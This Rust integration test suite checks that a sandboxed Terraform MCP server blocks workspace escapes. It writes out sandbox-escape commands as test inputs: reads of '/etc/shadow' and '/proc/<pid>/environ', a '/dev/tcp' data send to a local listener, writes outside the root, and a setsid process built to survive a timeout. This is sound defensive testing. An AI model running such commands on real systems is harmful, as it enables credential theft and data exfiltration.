//! Escapes a workspace's own configuration tries, against the kernel sandbox in its default
//! strict mode: real Terraform where it can express the attack, a compiled stand-in where not.
//! Every attempt must fail, leak nothing into the result, and leave the server serving.

mod common;

use std::io::Read;
use std::net::TcpListener;
use std::time::Duration;

use common::*;
use serde_json::{Value, json};

const OUTSIDE_SECRET: &str = "TOP-SECRET-OUTSIDE-THE-ROOT";
const VICTIM_SECRET: &str = "VICTIM-STATE-SECRET";
const STATE_DIR_SECRET: &str = "STATE-DIR-SECRET";
const MODULE_SECRET: &str = "VICTIM-MODULE-CODE";

/// A root with the escape fixtures, a victim workspace with state, a victim module, a secret
/// outside the root and one in the server's state dir.
fn scene() -> Sandbox {
    let sb = Sandbox::new(&["escape_file", "escape_remote_state", "escape_module"]);
    let outside = sb.dir.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("secret.txt"), OUTSIDE_SECRET).unwrap();
    std::fs::create_dir_all(sb.root.join("victim")).unwrap();
    std::fs::write(
        sb.root.join("victim/main.tf"),
        "output \"secret\" {\n  value = \"x\"\n}\n",
    )
    .unwrap();
    let state = json!({
        "version": 4, "terraform_version": "1.15.5", "serial": 1, "lineage": "00000000-0000-0000-0000-000000000000",
        "outputs": {"secret": {"value": VICTIM_SECRET, "type": "string"}}, "resources": [], "check_results": null
    });
    std::fs::write(sb.root.join("victim/terraform.tfstate"), state.to_string()).unwrap();
    std::fs::create_dir_all(sb.root.join("victim_module")).unwrap();
    std::fs::write(
        sb.root.join("victim_module/main.tf"),
        format!("output \"code\" {{\n  value = \"{MODULE_SECRET}\"\n}}\n"),
    )
    .unwrap();
    std::fs::create_dir_all(&sb.state).unwrap();
    std::fs::write(sb.state.join("secret.txt"), STATE_DIR_SECRET).unwrap();
    std::fs::write(sb.root.join("escape_file/inside.txt"), "inside-is-fine").unwrap();
    sb
}

fn leaks(r: &rmcp::model::CallToolResult, secrets: &[&str]) -> Option<String> {
    let all = format!("{r:?}");
    secrets
        .iter()
        .find(|s| all.contains(*s))
        .map(|s| s.to_string())
}

#[tokio::test]
async fn file_and_remote_state_outside_the_workspace_are_denied() {
    let sb = scene();
    let session = connect(&sb.env(&terraform(), &[])).await;
    let secrets = [OUTSIDE_SECRET, VICTIM_SECRET, STATE_DIR_SECRET];
    for ws in ["escape_file", "escape_remote_state"] {
        call_ok(&session, "terraform_init", json!({"path": ws})).await;
    }

    // The control: a file inside the workspace is readable.
    let r = call_ok(
        &session,
        "terraform_plan",
        json!({"path": "escape_file", "vars": {"target": "inside.txt"}}),
    )
    .await;
    assert_eq!(r["summary"]["output_changes"][0]["after"], "inside-is-fine");

    let targets = [
        sb.dir
            .path()
            .join("outside/secret.txt")
            .display()
            .to_string(),
        "../victim/terraform.tfstate".to_string(),
        sb.root
            .join("victim/terraform.tfstate")
            .display()
            .to_string(),
        sb.state.join("secret.txt").display().to_string(),
        "/etc/shadow".to_string(),
    ];
    for target in &targets {
        let r = call(
            &session,
            "terraform_plan",
            json!({"path": "escape_file", "vars": {"target": target}}),
        )
        .await;
        assert!(is_error(&r), "file({target}) was allowed: {}", text(&r));
        assert_eq!(leaks(&r, &secrets), None, "file({target}) leaked");
        let t = format!("{} {}", text(&r), sc(&r)["diagnostics"]).to_lowercase();
        assert!(
            t.contains("permission denied") || t.contains("no such file"),
            "{target}: {t}"
        );
    }

    for path in [
        "../victim/terraform.tfstate",
        &sb.root
            .join("victim/terraform.tfstate")
            .display()
            .to_string(),
    ] {
        let r = call(
            &session,
            "terraform_plan",
            json!({"path": "escape_remote_state", "vars": {"state_path": path}}),
        )
        .await;
        assert!(is_error(&r), "remote state {path} was read: {}", text(&r));
        assert_eq!(leaks(&r, &secrets), None);
        let t = format!("{} {}", text(&r), sc(&r)["diagnostics"]).to_lowercase();
        assert!(t.contains("permission denied"), "{t}");
    }
    session.cancel().await.unwrap();
}

#[tokio::test]
async fn modules_from_outside_the_workspace_are_denied() {
    let sb = scene();
    let session = connect(&sb.env(&terraform(), &[])).await;
    let init = call(&session, "terraform_init", json!({"path": "escape_module"})).await;
    let plan = call(&session, "terraform_plan", json!({"path": "escape_module"})).await;
    assert!(
        is_error(&init) || is_error(&plan),
        "a module outside the workspace was loaded"
    );
    assert!(is_error(&plan));
    assert_eq!(leaks(&init, &[MODULE_SECRET]), None);
    assert_eq!(leaks(&plan, &[MODULE_SECRET]), None);
    session.cancel().await.unwrap();
}

/// Plans and applies `command` through a local-exec provisioner in a fresh copy of the fixture.
async fn exec(
    session: &Session,
    sb: &Sandbox,
    name: &str,
    command: &str,
) -> rmcp::model::CallToolResult {
    sb.add_fixture_as("escape_exec", name);
    call_ok(session, "terraform_init", json!({"path": name})).await;
    let plan = call_ok(
        session,
        "terraform_plan",
        json!({"path": name, "vars": {"command": command}}),
    )
    .await;
    call(
        session,
        "terraform_apply",
        json!({"path": name, "plan_id": plan["plan_id"]}),
    )
    .await
}

#[tokio::test]
async fn local_exec_cannot_read_write_or_connect_outside() {
    let sb = scene();
    let env = sb.env(&terraform(), &[("TERRARIUM_ENABLE_APPLY", "true")]);
    let session = connect(&env).await;
    let outside = sb.dir.path().join("outside");

    // The control: inside the workspace a provisioner works.
    let r = exec(
        &session,
        &sb,
        "exec_ok",
        "echo fine > inside.txt && cat inside.txt",
    )
    .await;
    assert!(!is_error(&r), "{}", text(&r));
    assert_eq!(
        std::fs::read_to_string(sb.root.join("exec_ok/inside.txt"))
            .unwrap()
            .trim(),
        "fine"
    );

    let r = exec(
        &session,
        &sb,
        "exec_read",
        &format!("cat {}/secret.txt", outside.display()),
    )
    .await;
    assert!(is_error(&r), "read outside succeeded: {}", text(&r));
    assert_eq!(leaks(&r, &[OUTSIDE_SECRET]), None);
    let r = exec(
        &session,
        &sb,
        "exec_read_state",
        &format!("cat {}/secret.txt", sb.state.display()),
    )
    .await;
    assert!(is_error(&r));
    assert_eq!(leaks(&r, &[STATE_DIR_SECRET]), None);
    let r = exec(
        &session,
        &sb,
        "exec_read_victim",
        "cat ../victim/terraform.tfstate",
    )
    .await;
    assert!(is_error(&r));
    assert_eq!(leaks(&r, &[VICTIM_SECRET]), None);

    let pwned = outside.join("pwned.txt");
    let r = exec(
        &session,
        &sb,
        "exec_write",
        &format!("echo pwned > {}", pwned.display()),
    )
    .await;
    assert!(is_error(&r), "write outside succeeded");
    assert!(!pwned.exists(), "a file was written outside the workspace");
    let r = exec(
        &session,
        &sb,
        "exec_write_tmp",
        "echo pwned > /tmp/terrarium-pwned-$$",
    )
    .await;
    assert!(is_error(&r), "write to /tmp succeeded");

    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let r = exec(
        &session,
        &sb,
        "exec_connect",
        &format!("bash -c 'echo stolen > /dev/tcp/127.0.0.1/{port}'"),
    )
    .await;
    assert!(is_error(&r), "connect succeeded: {}", text(&r));
    tokio::time::sleep(Duration::from_millis(200)).await;
    match listener.accept() {
        Ok((mut s, _)) => {
            let mut got = String::new();
            let _ = s.read_to_string(&mut got);
            panic!("the listener received a connection: {got:?}");
        }
        Err(e) => assert_eq!(e.kind(), std::io::ErrorKind::WouldBlock),
    }

    // The server keeps serving.
    call_ok(&session, "terraform_validate", json!({"path": "exec_ok"})).await;
    session.cancel().await.unwrap();
}

#[tokio::test]
async fn a_setsid_sleeper_does_not_survive_the_timeout() {
    let sb = scene();
    let env = sb.env(
        &terraform(),
        &[
            ("TERRARIUM_ENABLE_APPLY", "true"),
            ("TERRARIUM_TIMEOUT_SECS", "4"),
            ("TERRARIUM_KILL_GRACE_SECS", "2"),
        ],
    );
    let session = connect(&env).await;
    let cmd = "setsid sh -c 'read -r p rest < /proc/self/stat; echo $p > sleeper.pid; exec sleep 600' & sleep 600";
    let r = exec(&session, &sb, "exec_setsid", cmd).await;
    assert!(is_error(&r));
    assert_eq!(sc(&r)["timed_out"], true);
    let sleeper = read_pid(&sb.root.join("exec_setsid/sleeper.pid"));
    assert!(
        gone_within(sleeper, 5),
        "the setsid()'d sleeper survived the run"
    );
    session.cancel().await.unwrap();
}

/// Runs the escape stand-in in `mode` through `tool` and returns its RESULT line.
async fn attempt(session: &Session, tool: &str, ws: &str) -> (Value, String) {
    let r = call(session, tool, json!({"path": ws})).await;
    let s = sc(&r).clone();
    let out = s["stdout"].as_str().unwrap_or_default().to_string();
    let line = out
        .lines()
        .find(|l| l.starts_with("RESULT:"))
        .unwrap_or("")
        .to_string();
    (
        s,
        if line.is_empty() {
            format!("no RESULT line; result: {}", text(&r))
        } else {
            line
        },
    )
}

#[tokio::test]
async fn what_terraform_cannot_express_is_blocked_too() {
    let sb = Sandbox::new(&["basic"]);
    let standin = escape_standin();
    // RLIMIT_NPROC does not bind root, so the fork attempt runs the server as an unprivileged
    // user, as a deployment does (the Dockerfile and the systemd unit run it as one).
    let uid = if is_root() { Some(65534) } else { None };
    let test_pid = std::process::id().to_string();
    let mut env = sb.env(
        &standin,
        &[
            (
                "TERRARIUM_PASSTHROUGH_ENV",
                "STANDIN_MODE,STANDIN_FORKS,STANDIN_MB,STANDIN_BYTES,STANDIN_TARGET_PID",
            ),
            ("TERRARIUM_LIMIT_PROCESSES", "64"),
            ("TERRARIUM_LIMIT_ADDRESS_SPACE_BYTES", "268435456"),
            ("TERRARIUM_LIMIT_FILE_SIZE_BYTES", "1048576"),
            ("STANDIN_FORKS", "5000"),
            ("STANDIN_MB", "1024"),
            ("STANDIN_BYTES", "16777216"),
        ],
    );
    if let Some(uid) = uid {
        sb.chown_all(uid);
    }
    for (mode, tool) in [
        ("bind", "terraform_init"),
        ("bind", "terraform_validate"),
        ("fork", "terraform_init"),
        ("alloc", "terraform_init"),
        ("fsize", "terraform_init"),
        ("ptrace", "terraform_init"),
        ("fds", "terraform_init"),
        ("signal", "terraform_init"),
    ] {
        env.insert("STANDIN_MODE".into(), mode.into());
        // ptrace and signal aim at this test process: a process outside the run's sandbox.
        env.insert("STANDIN_TARGET_PID".into(), test_pid.clone());
        let (session, _server_pid) = connect_as(&env, uid).await;
        let (s, line) = attempt(&session, tool, "basic").await;
        assert!(
            line.contains(":blocked:"),
            "{mode} via {tool} was not blocked: {line}"
        );
        assert_eq!(
            s["exit_code"], 0,
            "{mode}: the stand-in reports a blocked attempt with exit 0: {s}"
        );
        // The server keeps serving after each attempt.
        let (s2, _) = attempt(&session, "terraform_init", "basic").await;
        assert!(
            s2.get("exit_code").is_some(),
            "server stopped answering after {mode}"
        );
        session.cancel().await.unwrap();
        eprintln!("{mode} via {tool}: {line}");
    }
}

#[tokio::test]
async fn the_same_escape_succeeds_with_the_sandbox_off_and_results_say_so() {
    // The control for the tests above: they fail because of the sandbox, not by accident.
    let sb = scene();
    let session = connect(&sb.env(&terraform(), &[("TERRARIUM_SANDBOX", "off")])).await;
    call_ok(&session, "terraform_init", json!({"path": "escape_file"})).await;
    let target = sb
        .dir
        .path()
        .join("outside/secret.txt")
        .display()
        .to_string();
    let r = call_ok(
        &session,
        "terraform_plan",
        json!({"path": "escape_file", "vars": {"target": target}}),
    )
    .await;
    assert_eq!(r["summary"]["output_changes"][0]["after"], OUTSIDE_SECRET);
    assert_eq!(r["sandbox"]["mode"], "off");
    assert!(
        r["sandbox"]["warnings"][0]
            .as_str()
            .unwrap()
            .contains("TERRARIUM_SANDBOX=off")
    );
    session.cancel().await.unwrap();

    let session = connect(&sb.env(&terraform(), &[])).await;
    let r = call_ok(
        &session,
        "terraform_validate",
        json!({"path": "escape_file"}),
    )
    .await;
    assert_eq!(r["sandbox"]["mode"], "strict");
    for layer in ["landlock", "seccomp", "namespaces"] {
        assert_eq!(
            r["sandbox"]["layers"][layer], "enforced",
            "{layer}: {}",
            r["sandbox"]
        );
    }
    session.cancel().await.unwrap();
}

#[tokio::test]
async fn without_namespaces_the_subreaper_still_kills_a_setsid_sleeper() {
    let sb = scene();
    let env = sb.env(
        &terraform(),
        &[
            ("TERRARIUM_ENABLE_APPLY", "true"),
            ("TERRARIUM_TIMEOUT_SECS", "4"),
            ("TERRARIUM_KILL_GRACE_SECS", "2"),
            ("TERRARIUM_SANDBOX_DISABLE", "namespaces"),
        ],
    );
    let session = connect(&env).await;
    let cmd = "setsid sh -c 'read -r p rest < /proc/self/stat; echo $p > sleeper.pid; exec sleep 600' & sleep 600";
    let r = exec(&session, &sb, "exec_setsid_nons", cmd).await;
    assert_eq!(sc(&r)["timed_out"], true);
    assert_eq!(sc(&r)["sandbox"]["layers"]["namespaces"], "disabled");
    let sleeper = read_pid(&sb.root.join("exec_setsid_nons/sleeper.pid"));
    assert!(
        gone_within(sleeper, 5),
        "the setsid()'d sleeper survived without a PID namespace"
    );
    session.cancel().await.unwrap();
}

#[tokio::test]
async fn the_server_process_is_not_readable_from_a_run() {
    let sb = scene();
    let mut env = sb.env(&terraform(), &[("TERRARIUM_ENABLE_APPLY", "true")]);
    env.insert(
        "SERVER_ONLY_SECRET".into(),
        "server-environment-secret-value".into(),
    );
    let (session, server_pid) = connect_as(&env, None).await;
    for (name, cmd) in [
        ("exec_environ", format!("cat /proc/{server_pid}/environ")),
        ("exec_mem", format!("head -c 64 /proc/{server_pid}/mem")),
        ("exec_fd", format!("ls -l /proc/{server_pid}/fd")),
    ] {
        let r = exec(&session, &sb, name, &cmd).await;
        assert!(is_error(&r), "{cmd} succeeded: {}", text(&r));
        assert_eq!(leaks(&r, &["server-environment-secret-value"]), None);
    }
    session.cancel().await.unwrap();
}

#[tokio::test]
async fn landlock_scoping_stops_signals_to_processes_outside_the_run() {
    // The signal attempt above is already stopped by the PID namespace (the target is not
    // visible). Without namespaces the target is visible, and Landlock's signal scope must say no.
    let sb = Sandbox::new(&["basic"]);
    let mut env = sb.env(
        &escape_standin(),
        &[
            ("TERRARIUM_SANDBOX_DISABLE", "namespaces"),
            (
                "TERRARIUM_PASSTHROUGH_ENV",
                "STANDIN_MODE,STANDIN_TARGET_PID",
            ),
        ],
    );
    env.insert("STANDIN_MODE".into(), "signal".into());
    env.insert("STANDIN_TARGET_PID".into(), std::process::id().to_string());
    let (session, _) = connect_as(&env, None).await;
    let (s, line) = attempt(&session, "terraform_init", "basic").await;
    assert!(line.contains(":blocked:"), "a signal left the run: {line}");
    assert!(
        line.contains("Operation not permitted"),
        "blocked by Landlock, not by visibility: {line}"
    );
    assert_eq!(s["sandbox"]["layers"]["landlock"], "enforced");
    session.cancel().await.unwrap();
}
